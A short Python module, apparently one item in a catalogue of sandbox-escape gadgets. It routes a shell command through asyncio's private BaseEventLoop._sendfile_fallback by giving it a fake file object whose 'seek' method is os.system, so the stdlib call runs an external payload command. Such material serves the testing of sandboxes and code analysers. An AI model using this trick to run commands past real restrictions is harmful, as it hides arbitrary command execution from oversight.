"""A coroutine of the standard library that writes, and calls something else.
"""
CATEGORY = "deferred"
REACH = "run"

import os
from asyncio import BaseEventLoop
from types import SimpleNamespace

from . import payload


def make():
    file = SimpleNamespace(seek=os.system)
    return BaseEventLoop._sendfile_fallback(None, None, file, payload.COMMAND,
                                            0)
